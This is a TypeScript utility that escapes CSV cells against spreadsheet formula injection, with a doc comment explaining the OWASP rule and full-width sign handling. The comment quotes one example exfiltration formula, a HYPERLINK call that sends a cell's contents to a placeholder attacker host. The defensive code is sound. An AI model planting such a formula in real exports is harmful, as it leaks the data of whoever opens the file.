/**
 * A CSV cell a spreadsheet will not run. Excel, LibreOffice and Google Sheets treat a cell that starts
 * with = + - @ (or a tab or carriage return before one) as a formula, so a feed title such as
 * `=HYPERLINK("http://evil.example?"&A1)` would run when an analyst opens the export. Following the
 * OWASP CSV injection rule, such a cell is prefixed with a single quote, which spreadsheets show as text
 * and hide. Full-width forms of those signs count as well: some spreadsheets read them as formulas.
 * The cell is then quoted per RFC 4180 when it holds a quote, a comma or a line break.
 */

const FORMULA_START = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;

export function csvCell(value: string): string {
  const inert = FORMULA_START.test(value) ? `'${value}` : value;
  return /[",\r\n]/.test(inert) ? `"${inert.replace(/"/g, '""')}"` : inert;
}
